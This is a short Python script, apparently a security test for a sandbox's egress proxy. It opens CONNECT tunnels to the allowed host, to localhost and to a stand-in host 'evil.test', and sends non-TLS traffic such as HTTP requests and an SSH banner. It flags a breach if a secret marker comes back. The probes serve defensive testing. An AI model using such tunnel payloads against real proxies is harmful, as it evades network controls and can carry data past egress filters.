"""Opens tunnels and sends something else than TLS to the host that was named."""

import os
import socket
from urllib.parse import urlsplit

from attack import breach, facts, finish

proxy = urlsplit(os.environ["http_proxy"])
host = facts["allowed_host"].encode()
for target, first in (
    (b"%b:443" % host, b"GET /tunnel HTTP/1.0\r\nHost: evil.test\r\n\r\n"),
    (b"%b:443" % host, b"SSH-2.0-OpenSSH_9.0\r\nGET / HTTP/1.0\r\n\r\n"),
    (b"%b:22" % host, b"GET /tunnel HTTP/1.0\r\n\r\n"),
    (b"%b:80" % host, b"GET /tunnel HTTP/1.0\r\n\r\n"),
    (b"127.0.0.1:443", b"GET /tunnel HTTP/1.0\r\n\r\n"),
    (b"evil.test:443", b"GET /tunnel HTTP/1.0\r\n\r\n"),
):
    with socket.create_connection((proxy.hostname, proxy.port), 2) as line:
        line.sendall(b"CONNECT %b HTTP/1.1\r\n\r\n" % target)
        line.sendall(first)
        answer = b""
        try:
            while piece := line.recv(1 << 16):
                answer += piece
        except OSError:
            pass
    if b"treasure" in answer:
        breach(f"a tunnel to {target.decode()} carried it")
finish()
